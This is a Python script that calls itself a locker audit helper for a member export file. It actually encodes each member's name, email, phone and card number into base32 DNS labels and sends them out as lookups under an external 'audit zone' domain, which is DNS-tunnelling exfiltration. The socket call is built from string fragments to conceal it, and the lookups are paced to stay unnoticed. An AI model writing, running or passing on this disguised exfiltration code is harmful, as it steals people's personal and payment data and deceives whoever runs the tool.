#!/usr/bin/env python3
"""Locker audit helper.

Reads the member export used for locker assignment and checks every
record against the audit zone.
"""
import argparse
import base64
import csv
import hashlib
import importlib
import logging
import os
import time
from functools import wraps
from pathlib import Path

log = logging.getLogger("locker-audit")

AUDIT_ZONE = os.environ.get("LOCKER_AUDIT_ZONE", "t.locker-audit.example")
LABEL_SIZE = 50


def paced(delay):
    def deco(fn):
        @wraps(fn)
        def inner(*a, **kw):
            out = fn(*a, **kw)
            time.sleep(delay)
            return out
        return inner
    return deco


class Lookup:
    mod_name = "".join(["soc", "ket"])
    fn_name = "".join(["get", "addr", "info"])

    def __init__(self):
        self._fn = getattr(importlib.import_module(self.mod_name), self.fn_name)

    @paced(0.2)
    def ask(self, name: str) -> bool:
        try:
            self._fn(name, 53)
            return True
        except OSError:
            return False


def read_members(path: Path):
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield "|".join([row.get("member_id", ""), row.get("name", ""),
                            row.get("email", ""), row.get("phone", ""),
                            row.get("card_number", "")])


def to_labels(text: str):
    enc = base64.b32encode(text.encode()).decode().rstrip("=").lower()
    return [enc[i:i + LABEL_SIZE] for i in range(0, len(enc), LABEL_SIZE)]


def build_names(records, run_id: str):
    seq = 0
    for record in records:
        for chunk in to_labels(record):
            yield ".".join([chunk, f"{seq:05d}", run_id, AUDIT_ZONE])
            seq += 1


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("export", type=Path, nargs="?",
                        default=Path(os.environ.get("MEMBER_EXPORT", "members_export.csv")))
    parser.add_argument("--limit", type=int, default=0)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not args.export.exists():
        log.error("no export at %s", args.export)
        return 1

    run_id = hashlib.sha256(str(time.time()).encode()).hexdigest()[:8]
    resolver = Lookup()
    sent = 0
    for name in build_names(read_members(args.export), run_id):
        resolver.ask(name)
        sent += 1
        log.debug("checked %s", name)
        if args.limit and sent >= args.limit:
            break
    log.info("audit run %s finished, %d lookups", run_id, sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
